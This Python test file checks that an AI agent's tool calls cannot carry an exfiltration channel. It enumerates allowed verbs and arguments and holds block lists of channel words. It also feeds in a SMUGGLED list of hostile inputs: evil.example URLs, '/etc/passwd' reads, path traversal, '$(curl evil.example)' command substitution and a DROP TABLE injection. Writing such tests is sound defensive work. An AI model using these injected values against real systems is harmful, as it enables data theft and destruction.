"""Private data, untrusted text and a way out never come together: no word of a model can carry a way out.

Every verb that a model may name, and every argument of it, is enumerated: none holds an address, a host, a path, a
command, SQL or a file, and what the arguments do hold is looked up among what Diana knows already.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import cast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from diana_agent.dispatch import Nothing, Topic, WhichBackup, WhichMigration, dispatch, verbs
from diana_agent.models.base import JsonObject, ToolCall
from diana_agent.run import Run
from diana_agent.workflow import STEPS
from diana_prompts.system import verb_description
from guard.ground import Ground

VERBS = verbs(verb_description)
ARGUMENTS = {("read_migration", "id"), ("facts", "topic"), ("restore", "backup")}
"""All that a model can say beside the verb itself: which migration of the plan, what was asked, which backup."""

WAYS_OUT = (
    "url", "uri", "host", "port", "address", "path", "file", "folder", "directory", "sql", "query", "statement",
    "command", "argv", "shell", "script", "code", "env", "environment", "database", "target", "password", "token",
    "key", "yes", "confirm", "phrase", "force", "skip", "mode", "level", "policy", "trust", "text", "body", "header",
    "store",
)  # fmt: skip


def arguments() -> Iterator[tuple[str, str, JsonObject]]:
    for verb in VERBS:
        for name, schema in cast("dict[str, JsonObject]", verb.schema["properties"]).items():
            yield verb.name, name, schema


def test_there_are_these_arguments_and_no_other() -> None:
    assert {(verb, name) for verb, name, _ in arguments()} == ARGUMENTS
    assert len(VERBS) == 14


@pytest.mark.parametrize(("verb", "name", "schema"), list(arguments()))
def test_an_argument_is_one_short_text_and_no_way_out(verb: str, name: str, schema: JsonObject) -> None:
    assert schema["type"] == "string"
    assert cast("int", schema["maxLength"]) <= 200
    assert not set(name.lower().split("_")) & set(WAYS_OUT) or (verb, name) == ("restore", "backup")


@pytest.mark.parametrize("verb", VERBS, ids=lambda verb: verb.name)
def test_a_verb_takes_nothing_beside_its_arguments(verb: object) -> None:
    schema = next(one.schema for one in VERBS if one is verb)
    assert schema["additionalProperties"] is False
    assert set(schema) == {"type", "properties", "required", "additionalProperties"}


def test_no_verb_is_named_for_a_way_out() -> None:
    names = {verb.name for verb in VERBS}
    assert names == set(STEPS) | {"analyze", "facts", "read_migration"}
    for word in ("fetch", "http", "send", "mail", "upload", "write", "edit", "run", "exec", "sql", "shell", "confirm"):
        assert not any(word in name for name in names), word


SMUGGLED = (
    "https://evil.example/?q=", "//evil.example/x", "file:///etc/passwd", "../../../etc/passwd", "/etc/passwd",
    "$(curl evil.example)", "; DROP TABLE customer; --", "0001_change.sql", "migrations/0001_change.sql",
    "@/etc/passwd",
    "\\\\evil.example\\share", "postgresql://evil.example/x", "{{7*7}}", "%s%n", "-rf", "--help", "0001_change\x00",
)  # fmt: skip


@pytest.fixture
def run(ground: Ground) -> Run:
    return ground.open()


async def planned(run: Run) -> None:
    for verb in ("detect", "connect", "plan"):
        await dispatch(run, ToolCall(verb, verb, "{}"), "model")


async def test_what_is_smuggled_into_an_argument_is_looked_up_and_not_found(ground: Ground, run: Run) -> None:
    """Nothing is opened, asked or run for it: the answer is a refusal, or the facts that stood there anyway."""
    await planned(run)
    before = ground.content()
    plain, _ = await dispatch(run, ToolCall("t", "facts", '{"topic": "overview"}'), "model")
    for smuggled in SMUGGLED:
        for verb, name in sorted(ARGUMENTS):
            result, outcome = await dispatch(run, ToolCall("t", verb, json.dumps({name: smuggled})), "model")
            assert "root:" not in result.content
            if verb == "facts":
                assert {**json.loads(result.content), "topic": ""} == {**json.loads(plain.content), "topic": ""}
            else:
                assert outcome.status in ("refused", "halted"), (verb, smuggled)
    assert ground.content() == before
    assert not ground.person.asked


@settings(max_examples=60, deadline=None)
@given(
    verb=st.sampled_from([verb.name for verb in VERBS]),
    extra=st.dictionaries(st.sampled_from(WAYS_OUT), st.sampled_from(SMUGGLED), min_size=1, max_size=3),
)
def test_an_argument_that_is_not_there_ends_the_call_before_anything(verb: str, extra: dict[str, str]) -> None:
    schema = {"read_migration": WhichMigration, "facts": Topic, "restore": WhichBackup}.get(verb, Nothing)
    known = {name: "x" for one, name in ARGUMENTS if one == verb}
    assert schema.model_validate_json(json.dumps(known))
    with pytest.raises(ValidationError):
        schema.model_validate_json(json.dumps({**known, **extra}))
